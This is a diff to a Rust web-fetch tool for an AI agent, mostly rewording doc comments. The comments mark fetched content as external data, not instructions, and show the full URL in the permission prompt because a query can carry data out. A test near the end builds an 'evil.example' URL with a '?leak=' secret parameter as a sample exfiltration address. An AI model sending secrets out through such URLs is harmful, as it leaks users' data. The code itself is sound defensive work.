@@ -1,4 +1,4 @@
-//! `web_fetch`: a web page as Markdown, other text as it is, images as images. The result is marked as
+//! `web_fetch`: returns a web page as Markdown, other text unchanged, and images as images. The result is marked as
 //! external data, which must not be treated as instructions. The request contains nothing but the address.
 
 mod markdown;
@@ -14,13 +14,13 @@ use epitome_thread::attached::FileType;
 use epitome_thread::titles::name_in_title;
 use epitome_thread::{CallDisplay, OutcomeContent, ToolDisplay, ToolKind, ToolSpec};
 
-/// Bytes of text per call, leaving room for the text around it.
+/// Maximum bytes of text per call, leaving space for the text around it.
 const TEXT_BYTES_MAX: usize = truncate::OUTPUT_BYTES_MAX - 2 * 1024;
 
-/// Bytes of a server's error response.
+/// Maximum bytes of a server's error response.
 const REFUSAL_BYTES_MAX: usize = 500;
 
-/// Bytes of an address in a title.
+/// Maximum bytes of an address in a title.
 const TITLE_BYTES_MAX: usize = 100;
 
 pub struct WebFetch;
@@ -49,7 +49,8 @@ impl ParsedTool for WebFetch {
     fn display(&self, input: &Value, _: &Workspace) -> CallDisplay {
         let kind = ToolKind::Fetch;
         let url = input.get("url").and_then(Value::as_str).unwrap_or_default();
-        // As it will be requested: names of hosts in other scripts are shown by their letters.
+        // The address in the form in which it is requested: internationalized host names are shown in their ASCII
+        // form.
         let url =
             Address::parse(url).map_or_else(|_| url.trim().to_owned(), |address| address.url().to_owned());
         let title = match url.as_str() {
@@ -69,7 +70,7 @@ impl ParsedTool for WebFetch {
         Ok(Access::Fetch { url: address.url().to_owned(), host: address.host() })
     }
 
-    /// The whole address: its path and query may carry data out.
+    /// The complete address: its path and query may carry data out.
     fn preview(&self, call: FetchCall, _: ToolContext) -> BoxFuture<Vec<ToolDisplay>> {
         let text = disk::fenced("", call.address.url());
         Box::pin(std::future::ready(vec![ToolDisplay::Text { text }]))
@@ -80,7 +81,7 @@ impl ParsedTool for WebFetch {
     }
 }
 
-/// An address for a title. The middle of a long one is left out: its host and its end stay.
+/// Shortens an address for a title by omitting its middle: the host and the end remain.
 fn shortened(url: &str) -> String {
     if url.len() <= TITLE_BYTES_MAX {
         return url.to_owned();
@@ -194,7 +195,7 @@ fn file(kind: FileType, document: &Document, sees_images: bool) -> Result<ToolRe
     })
 }
 
-/// A document's title and text; `None` if it isn't text.
+/// Returns a document's title and text; `None` if it isn't text.
 fn text_of(document: &Document) -> Option<(Option<String>, String)> {
     let kind = document.content_type.split(';').next().unwrap_or_default().trim();
     let charset =
@@ -238,8 +239,8 @@ mod tests {
         }
     }
 
-    /// The prompt had no body, and the title ended after 100 bytes: a query of up to 4 kB, which is how data leaves,
-    /// was never on screen.
+    /// The prompt had no body, and the title was truncated after 100 bytes: a query of up to 4 kB, which can carry
+    /// data out, was never displayed.
     #[tokio::test]
     async fn a_prompt_shows_the_whole_address() {
         let url = format!("https://evil.example/{}?leak=MADE-UP-SECRET", "a".repeat(200));
